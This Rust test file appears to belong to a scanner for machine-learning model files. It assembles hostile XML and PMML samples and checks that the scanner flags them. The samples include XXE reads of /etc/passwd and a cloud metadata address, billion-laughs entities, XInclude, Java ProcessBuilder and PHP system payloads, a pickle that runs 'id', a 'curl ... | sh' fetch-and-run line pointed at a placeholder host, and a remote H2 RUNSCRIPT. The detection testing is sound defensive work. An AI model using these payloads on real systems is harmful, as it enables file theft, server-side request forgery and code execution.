//! XML that fetches, grows, includes or runs; networks and classical models in it that name code or files, or hide something.

use base64::Engine as _;
use weighhouse_core::Severity;
use weighhouse_formats::build::zip::{Archive, Member};

use super::containers::payload;
use super::programs::elf;
use crate::attack::{Sample, assert_seen, inspect};

fn network(inner: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?>\n<net name=\"n\" version=\"11\"><layers><layer id=\"0\" name=\"x\" type=\"Parameter\" \
         version=\"opset1\"><data shape=\"1\" element_type=\"f32\"/></layer>{inner}</layers><edges/></net>"
    )
}

fn pmml(inner: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?>\n<PMML xmlns=\"http://www.dmg.org/PMML-4_4\" version=\"4.4\"><Header/><DataDictionary/>{inner}</PMML>"
    )
}

fn typed(subset: &str, root: &str) -> String {
    format!("<?xml version=\"1.0\"?><!DOCTYPE x [{subset}]>{root}")
}

#[test]
fn documents() {
    let encoded = base64::engine::general_purpose::STANDARD.encode(payload());
    let laughs = "<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;'>";
    let nets = |subset: &str| typed(subset, "<net version='11'>&a;</net>");
    let texts: Vec<(&str, &str, String)> = vec![
        ("entity of a file in a network", "m.xml", nets("<!ENTITY a SYSTEM 'file:///etc/passwd'>")),
        ("entity of an address", "m.xml", nets("<!ENTITY a SYSTEM \"http://169.254.169.254/latest\">")),
        ("public entity", "m.xml", nets("<!ENTITY a PUBLIC 'x' 'http://e.example/x'>")),
        ("parameter entity", "m.xml", nets("<!ENTITY % p SYSTEM 'http://e.example/x.dtd'>%p;")),
        ("entity behind a comment", "m.xml", nets("<!-- ' > ]> --><!ENTITY a SYSTEM '/etc/passwd'>")),
        ("rules from an address", "m.xml", "<!DOCTYPE net SYSTEM 'http://e.example/x.dtd'><net version='11'/>".to_owned()),
        ("billion laughs", "m.xml", typed(laughs, "<net version='11'>&c;</net>")),
        ("billion laughs in a classical model", "m.pmml", typed(laughs, "<PMML>&c;</PMML>")),
        ("billion laughs without a declaration", "m.dat", format!("<!DOCTYPE x [{laughs}]><x>&c;</x>")),
        ("one entity of many bytes", "m.xml", typed(&format!("<!ENTITY a '{}'>", "a".repeat(50_000)), "<a>&a;</a>")),
        ("an entity in a model", "m.pmml", typed("<!ENTITY a 'b'>", "<PMML>&a;</PMML>")),
        ("included file", "m.xml", network("<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='../../x'/>")),
        ("included file in a classical model", "m.pmml", pmml("<xi:include href='/etc/passwd' parse='text'/>")),
        ("stylesheet from an address", "m.pmml", pmml("<?xml-stylesheet type='text/xsl' href='http://e.example/x'?>")),
        ("stylesheet with a script", "m.xml", "<?xml version='1.0'?><xsl:stylesheet xmlns:xsl='x'><msxsl:script language='JScript'>function x() {}</msxsl:script></xsl:stylesheet>".to_owned()),
        ("stylesheet with functions of Java", "m.xsl", "<xsl:stylesheet xmlns:xsl='x' xmlns:r='java:java.lang.Runtime'/>".to_owned()),
        ("objects by name", "m.xml", "<?xml version='1.0'?><java class='java.beans.XMLDecoder'><object class='java.lang.ProcessBuilder'><array class='java.lang.String' length='1'><void index='0'><string>id</string></void></array><void method='start'/></object></java>".to_owned()),
        ("server's instruction", "m.xml", network("<?php system('id'); ?>")),
        ("another encoding of markup", "m.xml", "<?xml version='1.0' encoding='utf-7'?><a>+ADw-!ENTITY</a>".to_owned()),
        ("library of a layer", "m.xml", network("<layer type='X' version='extension'><data implementation='libevil.so'/></layer>")),
        ("library with a version", "m.xml", network("<layer type='X' version='opset1' library='/tmp/libevil.so.1.2'/>")),
        ("library of Windows", "m.xml", network("<layer type='X' version='opset1'><data impl='\\\\host\\share\\e.DLL'/></layer>")),
        ("Python of a layer", "m.xml", network("<layer type='Python' version='opset1'><data module='evil.py'/></layer>")),
        ("library among notes", "m.xml", network("").replace("<edges/>", "<edges/><rt_info><extensions value=\"['/tmp/x.so']\"/></rt_info>")),
        ("list of plugins", "plugins.xml", "<ie><plugins><plugin name='CPU' location='/tmp/evil'/></plugins></ie>".to_owned()),
        ("custom kernel", "kernels.xml", "<CustomLayer name='X' type='SimpleGPU' version='1'><Kernel entry='e'><Source filename='x.cl'/></Kernel></CustomLayer>".to_owned()),
        ("pickle in an attribute", "m.xml", network(&format!("<layer type='X' version='opset1' note='{encoded}'/>"))),
        ("pickle in a comment", "m.pmml", pmml(&format!("<!--{encoded}-->"))),
        ("pickle in a value", "m.pmml", pmml(&format!("<Extension name='x'>{encoded}</Extension>"))),
        ("pickle of text behind the document", "m.pmml", pmml("") + "\ncos\nsystem\n(S'id'\ntR."),
        ("script as an extension", "m.pmml", pmml("<Extension name='script' value='x'/>")),
        ("script inside an extension", "m.pmml", pmml("<Extension name='x'><script>java.lang.Runtime.getRuntime()</script></Extension>")),
        ("class as an extension", "m.pmml", pmml("<Extension name='x' value='java.lang.ProcessBuilder'/>")),
        ("class as a function", "m.pmml", pmml("<Apply function='java.lang.Runtime.exec'><Constant>id</Constant></Apply>")),
        ("Python in an extension", "m.pmml", pmml("<Extension name='x'>\nimport os\nos.system('curl https://e.example/x | sh')\n</Extension>")),
        ("table elsewhere", "m.pmml", pmml("<TableLocator url='jdbc:h2:mem:;INIT=RUNSCRIPT FROM http://e.example'/>")),
        ("reference elsewhere", "m.pmml", pmml("<a xlink:href='file:///etc/passwd'/>")),
    ];
    let mut samples: Vec<Sample> = Vec::new();
    for (title, name, text) in &texts {
        samples.push(Sample::new(*title, *name, text.clone().into_bytes()));
        let zip = Archive::of([Member::deflated(name, text.as_bytes())]).build();
        samples.push(Sample::new(format!("{title}, in a zip"), "m.zip", zip));
    }
    for (title, name, text) in texts.iter().take(9) {
        let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        samples.push(Sample::new(
            format!("{title}, in UTF-16"),
            *name,
            [b"\xff\xfe".to_vec(), wide.clone()].concat(),
        ));
        samples.push(Sample::new(format!("{title}, in UTF-16 without a mark"), *name, wide));
    }
    for (title, tail) in [("pickle", payload()), ("program", elf())] {
        let bytes = [pmml("").into_bytes(), tail].concat();
        samples.push(Sample::new(format!("{title} behind the document"), "m.pmml", bytes));
    }
    assert_seen("xml", &samples);
}

#[test]
fn bytes_beside_a_network_that_it_does_not_refer_to() {
    let constant = "<layer id='1' name='c' type='Const' version='opset1'><data element_type='u8' shape='8' offset='0' size='8'/></layer>";
    let xml = network(constant).into_bytes();
    let worst = |bin: Vec<u8>| {
        let inspection = inspect([("m/net.xml".to_owned(), xml.clone()), ("m/net.bin".to_owned(), bin)]);
        inspection.findings.iter().map(|finding| finding.severity).max()
    };
    let data = vec![0x81, 0xfe, 3, 4, 5, 6, 7, 8];
    assert_eq!(worst(data.clone()), None);
    assert_eq!(worst([data.clone(), vec![0; 56]].concat()), None);
    for tail in [payload(), elf(), b"words that nobody reads".to_vec()] {
        assert!(worst([data.clone(), tail].concat()) >= Some(Severity::High));
    }
    assert!(worst(data[..4].to_vec()) >= Some(Severity::Medium));
}
